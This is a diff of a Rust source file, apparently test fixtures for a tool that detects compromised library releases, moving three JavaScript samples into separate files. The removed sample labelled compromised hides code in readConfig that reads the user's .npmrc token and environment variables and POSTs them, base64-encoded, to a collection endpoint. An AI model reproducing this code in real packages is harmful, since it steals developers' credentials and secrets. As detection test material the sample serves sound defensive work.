@@ -1153,68 +1153,13 @@ class Cache {
 module.exports = { Cache };
 ";
 
-const TINY_JS_UTIL: &str = "'use strict';
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n) {
-  return String(s).padStart(n);
-}
-
-function readConfig(dir) {
-  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
-  return JSON.parse(text);
-}
-
-module.exports = { pad, readConfig };
-";
+const TINY_JS_UTIL: &str = include_str!("../fixtures/tiny-lib/util.js");
 
 /// `readConfig` of the compromised release also reads the user's npm token and posts it.
-const TINY_JS_UTIL_COMPROMISED: &str = "'use strict';
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n) {
-  return String(s).padStart(n);
-}
-
-function readConfig(dir) {
-  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
-  const os = require('os');
-  const http = require('http');
-  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
-  const body = Buffer.from(JSON.stringify({ token, env: process.env })).toString('base64');
-  const req = http.request({ host: '127.0.0.1', port: 9, path: '/collect', method: 'POST' });
-  req.on('error', () => {});
-  req.write(body);
-  req.end();
-  return JSON.parse(text);
-}
-
-module.exports = { pad, readConfig };
-";
+const TINY_JS_UTIL_COMPROMISED: &str = include_str!("../fixtures/tiny-lib/util-compromised.js");
 
 /// An ordinary update of `lib/util.js`: a new option, a new pure helper, lines moved.
-const TINY_JS_UTIL_UPDATED: &str = "'use strict';
-// Helpers.
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n, fill = ' ') {
-  return String(s).padStart(n, fill);
-}
-
-function padRight(s, n) {
-  return String(s).padEnd(n);
-}
-
-function readConfig(dir, name = 'config.json') {
-  const text = fs.readFileSync(path.join(dir, name), 'utf8');
-  return JSON.parse(text);
-}
-
-module.exports = { pad, padRight, readConfig };
-";
+const TINY_JS_UTIL_UPDATED: &str = include_str!("../fixtures/tiny-lib/util-updated.js");
 
 /// What a release of a library is, next to the one before it.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
